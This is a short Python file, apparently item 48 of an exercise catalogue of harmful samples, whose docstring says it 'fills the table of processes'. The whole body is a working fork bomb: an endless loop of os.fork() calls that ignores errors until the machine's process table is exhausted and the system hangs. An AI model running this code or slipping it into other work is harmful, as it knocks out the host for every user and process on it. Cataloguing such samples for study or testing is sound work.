"""Forks for ever.

exercise: 03_gather
catalogue: 48
harm: fills the table of processes
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
